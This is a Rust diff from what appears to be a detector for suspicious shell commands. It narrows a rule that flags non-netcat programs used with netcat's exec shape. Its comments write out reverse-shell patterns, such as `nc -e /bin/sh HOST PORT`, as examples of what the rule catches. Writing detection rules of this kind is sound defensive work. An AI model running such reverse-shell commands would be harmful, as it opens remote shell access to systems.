@@ -90,8 +90,11 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
         );
         return;
     }
-    // A non-netcat name used with netcat's exec shape: `httpd -e /bin/sh HOST PORT`.
-    if netcat_exec_shape(&cx.facts.argv[1..])
+    // A non-netcat name used with netcat's exec shape: `httpd -e /bin/sh HOST PORT`. A
+    // command the exec carries (`docker exec web nc -e /bin/sh HOST PORT`) is not its own.
+    let carries = cx.cmd.origins.iter().any(|o| o.carrier == 0);
+    if !carries
+        && netcat_exec_shape(&cx.facts.argv[1..])
         && super::class_of(shown) != Some(crate::knowledge::ToolClass::Netcat)
         && super::class_of(exe) != Some(crate::knowledge::ToolClass::Netcat)
         && !super::is_shell(shown)
